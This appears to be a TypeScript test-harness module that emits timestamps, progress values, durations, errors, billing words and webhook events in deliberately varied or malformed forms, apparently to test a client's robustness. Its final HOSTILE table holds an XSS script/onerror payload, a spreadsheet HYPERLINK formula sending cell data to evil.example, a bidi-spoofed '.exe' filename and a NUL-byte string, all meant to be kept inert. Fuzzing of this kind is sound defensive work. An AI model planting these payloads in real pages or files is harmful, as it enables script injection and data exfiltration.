import type { ChoiceOf } from "@/lib/sandbox/switches"

/** A stamp in one of the ways of contract A20. */
export function toStamp(ms: number, form: ChoiceOf<"time.form">): string | number {
  const iso = new Date(ms).toISOString()
  switch (form) {
    case "iso_z":
      return iso
    case "seconds":
      return `${iso.slice(0, 19)}Z`
    case "micros":
      return `${iso.slice(0, 23)}412+00:00`
    case "offset":
      return new Date(ms + 20_700_000).toISOString().replace("Z", "+05:45")
    case "zoneless":
      return iso.slice(0, 23)
    case "space":
      return iso.slice(0, 19).replace("T", " ")
    case "epoch_s":
      return Math.floor(ms / 1000)
    case "epoch_ms":
      return ms
    case "garbage":
      return "last Tuesday"
    case "future":
      return "2099-01-01T00:00:00.000Z"
    case "ancient":
      return "1970-01-01T00:00:00.000Z"
  }
}

/** A progress of 0–100 in one of the ways of contract A21. */
export function toProgressForm(progress: number, form: ChoiceOf<"progress.form">): number | string | null {
  switch (form) {
    case "percent":
      return progress
    case "fraction":
      return progress / 100
    case "text":
      return `${progress}`
    case "null":
      return null
    case "over":
      return progress + 150
    case "negative":
      return -1
    case "random":
      return Math.floor(Math.random() * 100)
  }
}

/** A duration in one of the ways of contract A22. */
export function toDurationForm(seconds: number | null, form: ChoiceOf<"duration.form">): number | string | null {
  if (seconds === null) return null
  switch (form) {
    case "number":
      return seconds
    case "text":
      return `${seconds}`
    case "negative":
      return -seconds
    case "null":
      return null
    case "milliseconds":
      return seconds * 1000
    case "text_unit":
      return `${seconds}s`
  }
}

/** The error of a failed job in one of the ways of contract A14. */
export function toErrorForm(text: string, code: string, form: ChoiceOf<"error.shape">): unknown {
  switch (form) {
    case "text":
      return text
    case "object":
      return { code, message: text, request_id: "req_job", details: { stage: "processing" } }
    case "code":
      return code
    case "array":
      return [text, { code }]
    case "number":
      return 137
    case "null":
      return null
    case "huge":
      return `${text} ${"trace ".repeat(20_000)}`
  }
}

/** billing_status in the words of contract A23. */
export function toBillingForm(word: string | null, form: ChoiceOf<"billing.words">): unknown {
  if (form === "null") return null
  if (form === "object") return { state: word, currency: "credits" }
  if (word !== "charged") return word
  return form === "unknown" ? "settled_net_30" : form
}

type HookEvents = Record<string, { state: "sent" | "failed"; at: number } | undefined>

/** webhook_events in one of the ways of contract A24. */
export function toWebhookEventsForm(events: HookEvents, form: ChoiceOf<"webhook_events.shape">): unknown {
  const rows = Object.entries(events).flatMap(([event, told]) => (told === undefined ? [] : [{ event, ...told }]))
  switch (form) {
    case "map":
      return Object.fromEntries(rows.map((row) => [row.event, row.state]))
    case "map_object":
      return Object.fromEntries(
        rows.map((row) => [row.event, { status: row.state, attempts: 1, at: new Date(row.at).toISOString() }]),
      )
    case "list":
      return rows.map((row) => ({ event: row.event, status: row.state, sent_at: new Date(row.at).toISOString() }))
    case "names":
      return rows.map((row) => row.event)
    case "null":
      return null
    case "text":
      return JSON.stringify(Object.fromEntries(rows.map((row) => [row.event, row.state])))
  }
}

const BIDI = "\u202egnp.exe\u2066 \u200f"
const HOSTILE = {
  script: `"><script>window.hacked=1</script><img src=x onerror="window.hacked=1">`,
  formula: `=HYPERLINK("http://evil.example/?"&A1,"open")`,
  bidi: `invoice${BIDI}`,
  nul: "cut\u0000here",
  long: "long ".repeat(40_000),
} as const

/** Text that a reader must keep inert (faults V14, T10, T11); null when the switch is off. */
export function toHostileText(form: ChoiceOf<"text.hostile">): string | null {
  return form === "off" ? null : HOSTILE[form]
}
